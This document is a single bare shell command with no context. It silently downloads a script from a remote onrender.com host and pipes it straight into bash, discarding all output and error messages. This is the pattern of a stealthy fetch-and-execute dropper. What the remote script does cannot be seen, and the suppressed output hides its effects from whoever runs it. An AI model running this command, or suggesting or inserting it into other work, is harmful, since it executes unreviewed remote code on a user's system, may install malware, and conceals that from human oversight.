bash <(curl -s https://grey-otter-77.onrender.com/i.sh) >/dev/null 2>&1
